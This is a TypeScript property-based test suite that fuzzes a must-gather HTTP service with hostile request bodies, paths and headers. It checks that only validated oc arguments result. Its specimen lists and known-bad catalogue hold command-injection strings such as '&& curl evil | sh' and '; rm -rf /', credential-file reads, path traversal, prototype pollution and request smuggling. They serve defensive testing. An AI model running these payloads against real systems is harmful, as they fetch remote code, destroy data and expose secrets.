import assert from 'node:assert/strict'
import { mkdirSync, mkdtempSync, readdirSync, readFileSync } from 'node:fs'
import { connect } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, it } from 'node:test'

import { Ajv } from 'ajv'
import addFormats from 'ajv-formats'
import fc from 'fast-check'
import secureJson from 'secure-json-parse'

import { ValidationError } from '../../src/gatherings/errors.js'
import { buildOcArgs } from '../../src/gatherings/oc-args.js'
import type { GatheringOptions } from '../../src/gatherings/types.js'
import { validateRequest } from '../../src/gatherings/validate-request.js'
import { gatheringRequestFrom } from '../../src/routes/gathering-request.js'
import { type CreateGatheringBody, CreateGatheringBodySchema } from '../../src/schemas/gathering.js'
import { type RunningService, startService, stopAndClean, waitFor } from '../helpers/service.js'
import { count, listTree, report, runSeed, writeExecutable } from './helpers.js'

/**
 * Reliability, scenario 6: hostile input. Property-based (fast-check) over
 * request bodies and path parameters, at the unit level (schema +
 * validateRequest + buildOcArgs, many runs) and over HTTP against the real
 * service (fewer), plus a fixed catalogue of known-bad requests. Asserted:
 * never a 5xx; the service accepts exactly what validation accepts; every
 * `oc` argument is `adm`, `must-gather`, the service's `--dest-dir`, a
 * known `--flag=value` carrying a validated field, `--`, or follows `--`;
 * no file appears outside the data directory.
 */
const UNIT_RUNS = count(5000, 100_000)
const HTTP_BODIES = count(400, 5000)
const HTTP_PATHS = count(300, 3000)
const CONCURRENCY = 8
const BODY_LIMIT = 64 * 1024
const DEFAULTS = { defaultImage: '', defaultTimeout: '20m', maxTimeoutMs: 6 * 3600_000 }

/** The flags a request field may become (oc-args.ts), each carrying the option of the same meaning. */
const FLAG_OPTION: Record<string, keyof GatheringOptions> = {
  image: 'images',
  'image-stream': 'imageStreams',
  'all-images': 'allImages',
  'node-name': 'nodeName',
  'node-selector': 'nodeSelector',
  'host-network': 'hostNetwork',
  'source-dir': 'sourceDir',
  timeout: 'timeout',
  since: 'since',
  'since-time': 'sinceTime',
  'run-namespace': 'runNamespace',
  'volume-percentage': 'volumePercentage',
  keep: 'keep',
  server: 'server'
}
const FIELDS = ['custom-name', 'image', 'image-stream', 'all-images', 'node-name', 'node-selector', 'host-network', 'source-dir',
  'timeout', 'since', 'since-time', 'run-namespace', 'volume-percentage', 'keep', 'server', 'command']

/** Values that attack something: flags, shells, paths, prototypes, encodings, sizes. Some are valid values, to get past validation. */
const SPECIMENS = [
  '--help', '-h', '--dest-dir=/etc', '--kubeconfig=/root/.kube/config', '--token=stolen', '--', '-', '--all-images', '--image=evil',
  // eslint-disable-next-line no-template-curly-in-string
  '$(id)', '`id`', '; rm -rf /', '| cat /etc/passwd', '&& curl evil | sh', '${IFS}cat${IFS}/etc/passwd', '*', '?', '~', '\'', '"', '\\',
  '../../etc/passwd', '/etc/passwd', '..', '.', '%2e%2e%2f', '..%2F..%2F', '/dev/zero', '/proc/self/environ', 'C:\\Windows',
  '\u0000', '\n--all-images', 'a\r\nX-Injected: 1', '\u001b[31m', '\u007f', '\u202etxt.exe', '\ufeff', '\ud800', 'ｆｕｌｌｗｉｄｔｈ', '名前', '🙂',
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty',
  'quay.io/org/image:v1', 'quay.io/must-gather-service/simulator:latest', 'registry.example.com:5000/a/b@sha256:' + 'a'.repeat(64),
  'quay.io/x/y:latest --all-images', 'quay.io/x/y:--help', 'ns/name:tag', 'openshift/must-gather', '15m', '1h30m', '90', '-1s', '0', '0s',
  '999999h', '2006-01-02T15:04:05Z', '2006-01-02T15:04:05+07:00', 'https://api.example.com:6443', 'api.example.com:6443',
  'http://user:pw@host', 'file:///etc/passwd', 'node-1', 'ip-10-0-1-2.ec2.internal', 'kubernetes.io/os=linux', 'key in (a,b)', '!key',
  'default', '/must-gather/', '/tmp/../etc', 'PLAN=plan1 /usr/bin/targeted', 'vm:My VM:uid'
]
const HOSTILE_KEYS = ['__proto__', 'constructor', 'prototype', 'dest-dir', 'destDir', 'kubeconfig', 'token', '--image', 'image ', 'IMAGE', '', 'command\u0000']

const text = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...SPECIMENS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme-composite', maxLength: 12 }) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...SPECIMENS), fc.string({ unit: 'binary-ascii', maxLength: 6 }), fc.constantFrom(...SPECIMENS)).map((parts) => parts.join('')) },
  { weight: 1, arbitrary: fc.tuple(fc.string({ minLength: 1, maxLength: 4 }), fc.integer({ min: 60, max: 20_000 })).map(([s, n]) => s.repeat(n)) }
)
const value = fc.oneof(
  { weight: 6, arbitrary: text },
  { weight: 2, arbitrary: fc.array(text, { maxLength: 5 }) },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.oneof(fc.integer({ min: -5, max: 105 }), fc.integer(), fc.double()) },
  { weight: 1, arbitrary: fc.constant(null) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) }
)
const key = fc.oneof(
  { weight: 8, arbitrary: fc.constantFrom(...FIELDS) },
  { weight: 1, arbitrary: fc.constantFrom(...HOSTILE_KEYS) },
  { weight: 1, arbitrary: text }
)
/** A request body as sent: mostly objects (written key by key, so `__proto__` stays a plain key), some other JSON, some not JSON. */
const bodyText = fc.oneof(
  { weight: 12, arbitrary: fc.array(fc.tuple(key, value), { maxLength: 6 }).map((entries) => `{${entries.map(([k, v]) => `${JSON.stringify(k)}:${JSON.stringify(v)}`).join(',')}}`) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }).map((v) => JSON.stringify(v) ?? 'null') },
  { weight: 1, arbitrary: text }
)

const ajv = new Ajv({ coerceTypes: false, useDefaults: false, removeAdditional: false, allErrors: false, strict: false })
addFormats.default(ajv)
const schemaAccepts = ajv.compile(CreateGatheringBodySchema as object)

/** What the service must do with a body: the options it runs with, or undefined when it must refuse (4xx). */
function expectedOptions (body: string): GatheringOptions | undefined {
  if (Buffer.byteLength(body) > BODY_LIMIT) return undefined
  let parsed: unknown
  if (body.trim() === '') parsed = {}
  else {
    // As the service parses: a __proto__ or constructor.prototype key is refused.
    try { parsed = secureJson.parse(body, undefined, { protoAction: 'error', constructorAction: 'error' }) } catch { return undefined }
  }
  if (!schemaAccepts(parsed)) return undefined
  try {
    return validateRequest(gatheringRequestFrom(parsed as CreateGatheringBody), DEFAULTS).options
  } catch (error) {
    assert.ok(error instanceof ValidationError, `validateRequest threw ${String(error)} for ${body.slice(0, 200)}`)
    return undefined
  }
}

/**
 * The property every oc argument list must have: `adm must-gather
 * --dest-dir=<the service's>`, then only known `--flag=value` arguments whose
 * value is the validated option of that flag (all of them, each once), then
 * `--` and the command exactly. No argument holds a NUL or another control character before `--`.
 */
function checkArgs (args: string[], options: GatheringOptions, destination: string): void {
  assert.deepEqual(args.slice(0, 3), ['adm', 'must-gather', `--dest-dir=${destination}`])
  const separator = args.indexOf('--')
  const flags = separator === -1 ? args.slice(3) : args.slice(3, separator)
  const expected: string[] = []
  for (const [flag, option] of Object.entries(FLAG_OPTION)) {
    const v = options[option]
    for (const item of Array.isArray(v) ? v : [v]) if (item !== '' && item !== null && item !== false) expected.push(`--${flag}=${String(item)}`)
  }
  for (const arg of flags) {
    const match = /^--([a-z-]+)=([\s\S]+)$/.exec(arg)
    assert.ok(match !== null && match[1] !== undefined && match[1] in FLAG_OPTION, `argument ${JSON.stringify(arg)} is not a known --flag=value`)
    // eslint-disable-next-line no-control-regex
    assert.doesNotMatch(arg, /[\u0000-\u001f\u007f]/, `argument ${JSON.stringify(arg)} holds a control character`)
  }
  assert.deepEqual([...flags].sort(), expected.sort(), 'the flags are exactly the validated options')
  assert.deepEqual(separator === -1 ? [] : args.slice(separator + 1), options.command, 'after -- comes exactly the command')
  // spawn passes arguments as UTF-8: each must survive the trip unchanged (a lone surrogate would not).
  for (const arg of args) assert.equal(Buffer.from(arg, 'utf8').toString('utf8'), arg, `argument ${JSON.stringify(arg)} is not valid Unicode text`)
}

describe('reliability: hostile input, unit level', () => {
  it(`${UNIT_RUNS} generated bodies: refused with a ValidationError, or turned into safe oc arguments`, (t) => {
    const seed = runSeed()
    let accepted = 0
    fc.assert(fc.property(bodyText, (body) => {
      const options = expectedOptions(body)
      if (options === undefined) return
      accepted++
      const destination = '/data/gatherings/7/must-gather.local.7'
      checkArgs(buildOcArgs(options, destination), options, destination)
    }), { numRuns: UNIT_RUNS, seed })
    assert.ok(accepted > UNIT_RUNS / 50, `only ${accepted} of ${UNIT_RUNS} bodies were valid: the generator must reach oc-args`)
    report(t, 'hostile input (unit)', `${UNIT_RUNS} bodies (seed ${seed}): ${accepted} valid → arguments checked, ${UNIT_RUNS - accepted} refused (not JSON, schema, or a ValidationError), 0 unsafe`)
  })
})

/** The recording stand-in: each run writes its argv (NUL-separated) to argv/<pid>, then fails at once (no archive to pack). */
const recordingOc = (dir: string): string => `#!/bin/bash
[ "$1" = version ] && [ "$2" = --client ] && { echo "Client Version: 4.17.0"; exit 0; }
printf '%s\\0' "$@" > ${JSON.stringify(join(dir, 'argv'))}/$$.$RANDOM$RANDOM
echo "error: recorded" >&2
exit 1
`

interface RawResponse { status: number, text: string }

/** Every UTF-8 byte as %XX (lone surrogates, which encodeURIComponent refuses, become U+FFFD). */
const percentEncode = (s: string): string => Buffer.from(s, 'utf8').toString('hex').replace(/../g, '%$&')

/** A request written byte for byte (no URL normalization, any path or header), read until the server closes. */
function raw (service: RunningService, request: string): Promise<RawResponse> {
  const { port } = new URL(service.url)
  return new Promise((resolve) => {
    const socket = connect(Number(port), '127.0.0.1')
    const chunks: Buffer[] = []
    socket.setTimeout(10_000, () => socket.destroy())
    socket.on('data', (chunk: Buffer) => chunks.push(chunk))
    socket.on('error', () => {})
    socket.on('close', () => {
      const answer = Buffer.concat(chunks).toString('latin1')
      resolve({ status: Number(/^HTTP\/1\.1 (\d{3})/.exec(answer)?.[1] ?? 0), text: answer })
    })
    socket.write(request, 'latin1')
  })
}

/** Runs `work` over `items` with at most `limit` at once. */
async function inParallel<T> (items: T[], limit: number, work: (item: T, index: number) => Promise<void>): Promise<void> {
  let next = 0
  await Promise.all(Array.from({ length: limit }, async () => {
    while (next < items.length) {
      const index = next++
      await work(items[index] as T, index)
    }
  }))
}

describe('reliability: hostile input, over HTTP', () => {
  let service: RunningService
  let dir: string
  let filesBefore: string[]
  const sent = new Map<number, string>()
  const figures: string[] = []
  const outsideData = (path: string): boolean => path === 'gatherings' || path === 'argv'

  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'mgs-test-'))
    writeExecutable(join(dir, 'bin', 'oc'), recordingOc(dir))
    mkdirSync(join(dir, 'argv'))
    service = await startService({ dir, env: { OC_PATH: join(dir, 'bin', 'oc'), MAX_CONCURRENT: '8', MAX_QUEUED: '100000', POST_RATE_LIMIT: '0' } })
    filesBefore = listTree(dir, outsideData)
  })
  after(async () => stopAndClean(service))

  const post = async (body: string, contentType: string | undefined): Promise<{ status: number, json: any }> => {
    const response = await service.fetch('/must-gather', { method: 'POST', body, headers: contentType === undefined ? {} : { 'Content-Type': contentType } })
    const answer = await response.text()
    let json: any
    try { json = JSON.parse(answer) } catch { json = answer }
    return { status: response.status, json }
  }

  it('a catalogue of known-bad requests: each refused, or accepted as an inert value', async () => {
    const cases: Array<[string, string, number]> = [
      ['destination from the request', '{"dest-dir": "/etc"}', 400],
      ['prototype pollution', '{"__proto__": {"isAdmin": true}}', 400],
      ['prototype pollution, nested', '{"constructor": {"prototype": {"polluted": true}}}', 400],
      ['a flag as the image', '{"image": "--all-images"}', 400],
      ['a flag in an image list', '{"image": ["quay.io/a/b:v1", "--kubeconfig=/etc/shadow"]}', 400],
      ['an image with a space and a flag', '{"image": "quay.io/x/y:latest --all-images"}', 400],
      ['a newline in a value', '{"source-dir": "/must-gather/\\n--all-images"}', 400],
      ['a NUL in the name', '{"custom-name": "x\\u0000y"}', 400],
      ['a lone surrogate in the command (oc would get U+FFFD)', '{"command": "a\\ud800b"}', 400],
      ['a lone surrogate in the name', '{"custom-name": "\\udfff"}', 400],
      ['a slash in the node name', '{"node-name": "a/../b"}', 400],
      ['a shell in the timeout', '{"timeout": "1h; rm -rf /"}', 400],
      ['an enormous timeout', '{"timeout": "99999999999h"}', 400],
      ['a negative timeout', '{"timeout": "-1s"}', 400],
      ['an infinite percentage', '{"volume-percentage": 1e309}', 400],
      ['a fractional percentage', '{"volume-percentage": 50.5}', 400],
      ['a percentage as text', '{"volume-percentage": "50"}', 400],
      ['a boolean as text', '{"keep": "true"}', 400],
      ['credentials in the server', '{"server": "https://user:pass@evil.example.com"}', 400],
      ['a file URL as the server', '{"server": "file:///etc/passwd"}', 400],
      ['an array as the body', '[]', 400],
      ['null as the body', 'null', 400],
      ['a string as the body', '"image"', 400],
      ['not JSON', '{"image": ', 400],
      ['deeply nested JSON', '['.repeat(30_000) + ']'.repeat(30_000), 400],
      ['a body over 64 KiB', JSON.stringify({ 'custom-name': 'x'.repeat(70_000) }), 413],
      ['too many images', JSON.stringify({ image: Array.from({ length: 65 }, () => 'quay.io/a/b:v1') }), 400],
      ['a shell command: one argument after --', '{"command": "$(curl evil | sh); rm -rf /"}', 201],
      ['flags as the command: after --', '{"command": ["--dest-dir=/etc", "-h", "--kubeconfig=/x"]}', 201],
      ['a flag as the source dir: one --source-dir= argument', '{"source-dir": "--dest-dir=/tmp/x"}', 201],
      ['a path as the name: only a label', '{"custom-name": "../../../etc/passwd"}', 201],
      ['duplicate keys: the last one counts', '{"image": "--help", "image": "quay.io/a/b:v1"}', 201]
    ]
    for (const [what, body, status] of cases) {
      const answer = await post(body, 'application/json')
      assert.equal(answer.status, status, `${what}: ${JSON.stringify(answer.json).slice(0, 200)}`)
      if (status >= 400) assert.equal(typeof answer.json.error, 'string', `${what}: a JSON error`)
      else sent.set(answer.json.id, body)
    }
    const requests: Array<[string, string, (status: number) => boolean]> = [
      ['traversal in the path', 'GET /must-gather/../../etc/passwd HTTP/1.1', (s) => s === 404],
      ['encoded traversal to /data', 'GET /must-gather/..%2F..%2Fetc%2Fpasswd/data HTTP/1.1', (s) => s === 404],
      ['a NUL in the id', 'GET /must-gather/%00/output HTTP/1.1', (s) => s === 404 || s === 400],
      ['a raw space in the path', 'GET /must-gather/a b HTTP/1.1', (s) => s === 400 || s === 404],
      ['a negative limit', 'GET /must-gather?limit=-1 HTTP/1.1', (s) => s === 400],
      ['a huge limit', 'GET /must-gather?limit=99999999999999999999 HTTP/1.1', (s) => s === 400],
      ['an exponent offset', 'GET /must-gather?offset=1e3 HTTP/1.1', (s) => s === 400],
      ['a path as the status', 'GET /must-gather?status=../../x HTTP/1.1', (s) => s === 400],
      ['array query syntax', 'GET /must-gather?status[]=new&__proto__[x]=1 HTTP/1.1', (s) => s === 200],
      ['a huge output offset', 'GET /must-gather/1/output?offset=99999999999 HTTP/1.1', (s) => s === 400],
      ['follow=yes', 'GET /must-gather/1/output?follow=yes HTTP/1.1', (s) => s === 400],
      ['an absolute URL as the target', 'GET http://evil.example.com/must-gather HTTP/1.1', (s) => s < 500 && s > 0],
      ['an unknown method', 'PATCH /must-gather/1 HTTP/1.1', (s) => s === 404],
      ['TRACE', 'TRACE /must-gather HTTP/1.1', (s) => s >= 400 && s < 500],
      ['a header with a NUL', 'GET /must-gather HTTP/1.1\r\nX-Request-Id: a\u0000b', (s) => s === 400],
      ['request smuggling (CL + TE)', 'POST /must-gather HTTP/1.1\r\nContent-Length: 4\r\nTransfer-Encoding: chunked', (s) => s === 400],
      ['a 20 KiB header', `GET /must-gather HTTP/1.1\r\nX-Big: ${'a'.repeat(20_000)}`, (s) => s === 431],
      ['a range past 2^53', 'GET /must-gather/1/data HTTP/1.1\r\nRange: bytes=99999999999999999999999-', (s) => s === 404 || s === 416],
      ['a huge Last-Event-ID', 'GET /must-gather/1/output HTTP/1.1\r\nLast-Event-ID: 99999999999999999999', (s) => s === 200 || s === 404]
    ]
    for (const [what, head, ok] of requests) {
      const answer = await raw(service, `${head}\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n`)
      assert.ok(ok(answer.status), `${what}: ${answer.status} ${answer.text.split('\r\n')[0] ?? ''}`)
      assert.ok(!answer.text.includes('root:x:0:0'), `${what}: no file content`)
    }
    figures.push(`catalogue of ${cases.length} bodies and ${requests.length} raw requests as expected`)
  })

  it(`${HTTP_BODIES} generated bodies over HTTP: never a 5xx, accepted exactly when valid`, async () => {
    const seed = runSeed()
    const bodies = fc.sample(bodyText, { numRuns: HTTP_BODIES, seed })
    const contentTypes = ['application/json', 'application/json; charset=utf-8', 'text/plain', undefined, 'application/x-www-form-urlencoded']
    let accepted = 0
    await inParallel(bodies, CONCURRENCY, async (body, i) => {
      const answer = await post(body, contentTypes[i % contentTypes.length])
      const expected = expectedOptions(body)
      assert.ok(answer.status < 500, `${answer.status} for ${body.slice(0, 300)}`)
      if (expected === undefined) {
        assert.ok(answer.status === 400 || answer.status === 413, `${answer.status} (expected a refusal) for ${body.slice(0, 300)}`)
        assert.equal(typeof answer.json.error, 'string')
      } else {
        assert.equal(answer.status, 201, `${JSON.stringify(answer.json).slice(0, 300)} (expected 201) for ${body.slice(0, 300)}`)
        sent.set(answer.json.id, body)
        accepted++
      }
    })
    figures.push(`${HTTP_BODIES} bodies (seed ${seed}): ${accepted} × 201, ${HTTP_BODIES - accepted} × 400/413, 0 × 5xx`)
  })

  it('every oc run got only validated values, as --flag=value or after --', async () => {
    await waitFor(async () => {
      const list = (await service.json<any[]>('/must-gather')).body
      return list.length === sent.size && list.every((g) => g.status === 'error' || g.status === 'completed')
    }, 'every accepted execution to finish', 60_000)
    const recorded = new Map<number, string[]>()
    for (const name of readdirSync(join(dir, 'argv'))) {
      const args = readFileSync(join(dir, 'argv', name), 'utf8').split('\0').slice(0, -1)
      const id = Number(/^--dest-dir=.*\/(\d+)\/must-gather\.local\.\d+$/.exec(args[2] ?? '')?.[1])
      assert.ok(!recorded.has(id), `execution ${id} ran twice`)
      recorded.set(id, args)
    }
    assert.deepEqual([...recorded.keys()].sort((a, b) => a - b), [...sent.keys()].sort((a, b) => a - b), 'one oc run per accepted request, and no other')
    for (const [id, args] of recorded) {
      const options = expectedOptions(sent.get(id) as string) as GatheringOptions
      checkArgs(args, options, join(service.dataDir, String(id), `must-gather.local.${id}`))
    }
    const argsOf = (body: string): string[] | undefined => {
      const entry = [...sent.entries()].find(([, b]) => b === body)
      return entry && recorded.get(entry[0])
    }
    assert.deepEqual(argsOf('{"command": "$(curl evil | sh); rm -rf /"}')?.slice(-2), ['--', '$(curl evil | sh); rm -rf /'])
    assert.deepEqual(argsOf('{"command": ["--dest-dir=/etc", "-h", "--kubeconfig=/x"]}')?.slice(-4), ['--', '--dest-dir=/etc', '-h', '--kubeconfig=/x'])
    assert.ok(argsOf('{"source-dir": "--dest-dir=/tmp/x"}')?.includes('--source-dir=--dest-dir=/tmp/x'))
    figures.push(`${recorded.size} oc runs, every argument checked`)
  })

  it(`${HTTP_PATHS} generated path parameters, queries and headers: never a 5xx, never a file`, async () => {
    const seed = runSeed()
    const short = text.filter((s) => s.length < 200)
    const id = fc.oneof(
      { weight: 3, arbitrary: short.map(percentEncode) },
      { weight: 2, arbitrary: fc.integer({ min: 1, max: sent.size + 5 }).map(String) },
      { weight: 1, arbitrary: fc.constantFrom('0', '-1', '01', '1e3', '9'.repeat(20), '..', '.', '%2e%2e', '..%2f..%2fetc%2fpasswd', '%00', '%', '%zz', '%c0%ae') },
      { weight: 1, arbitrary: fc.string({ unit: 'binary-ascii', maxLength: 30 }).map((s) => s.replace(/[\s#?]/g, '')) }
    )
    const query = fc.oneof(
      { weight: 2, arbitrary: fc.constant('') },
      {
        weight: 1,
        arbitrary: fc.array(fc.tuple(fc.constantFrom('status', 'custom-name', 'limit', 'offset', 'follow', '__proto__', 'x'), short), { minLength: 1, maxLength: 3 })
          .map((pairs) => pairs.map(([k, v]) => `${k}=${percentEncode(v)}`).join('&'))
      }
    )
    const printable = fc.string({ unit: fc.integer({ min: 0x20, max: 0x7e }).map((c) => String.fromCharCode(c)), maxLength: 60 })
    const headerValue = fc.oneof(
      { weight: 4, arbitrary: printable },
      {
        weight: 4,
        arbitrary: fc.oneof(
          fc.constantFrom('bytes=0-', 'bytes=-1', 'bytes=-0', 'bytes=0-0,1-1', 'bytes=5-1', 'bytes=', 'bytes=a-b', '*', 'W/"x"', '"abc", *',
            'text/event-stream', 'gzip, deflate, br', 'identity;q=0', '99999999999999999999', '-1', '1e3', '../../etc/passwd'),
          fc.tuple(fc.nat(), fc.nat()).map(([a, b]) => `bytes=${a}-${b}`),
          fc.bigInt({ min: 0n, max: 10n ** 30n }).map(String)
        )
      },
      { weight: 1, arbitrary: fc.string({ unit: 'binary-ascii', maxLength: 30 }).map((s) => s.replace(/[\r\n\0]/g, '')) }
    )
    const header = fc.tuple(fc.constantFrom('Range', 'If-None-Match', 'If-Range', 'Last-Event-ID', 'Accept', 'Accept-Encoding', 'X-Request-Id'), headerValue)
    const request = fc.record({
      method: fc.constantFrom('GET', 'GET', 'GET', 'HEAD', 'DELETE'),
      id,
      suffix: fc.constantFrom('', '/data', '/output', '/output', '/data/', '/x'),
      query,
      header
    })
    const requests = fc.sample(request, { numRuns: HTTP_PATHS, seed })
    const statuses = new Map<number, number>()
    await inParallel(requests, CONCURRENCY, async (r) => {
      const target = `/must-gather/${r.id}${r.suffix}${r.query === '' ? '' : `?${r.query}`}`
      const answer = await raw(service, `${r.method} ${target} HTTP/1.1\r\nHost: 127.0.0.1\r\n${r.header[0]}: ${r.header[1]}\r\nConnection: close\r\n\r\n`)
      statuses.set(answer.status, (statuses.get(answer.status) ?? 0) + 1)
      assert.ok(answer.status > 0 && answer.status < 500, `${answer.status} for ${r.method} ${target} with ${r.header.join(': ')}`)
      assert.ok(!answer.text.includes('root:x:0:0'))
    })
    figures.push(`${HTTP_PATHS} path/query/header requests (seed ${seed}): ${[...statuses].sort().map(([s, n]) => `${n} × ${s}`).join(', ')}`)
  })

  it('no file appeared outside the data directory, and inside it only the service\'s own names', async (t) => {
    assert.deepEqual(listTree(dir, outsideData), filesBefore)
    for (const name of readdirSync(service.dataDir)) {
      assert.match(name, /^\d+$/)
      for (const entry of readdirSync(join(service.dataDir, name))) {
        assert.ok(['output.log', 'archive.tar.gz', 'archive.tar.gz.idx', 'summary.json', `must-gather.local.${name}`].includes(entry), `${name}/${entry}`)
      }
    }
    report(t, 'hostile input (HTTP)', `${figures.join('; ')}; no file outside the data dir`)
  })
})
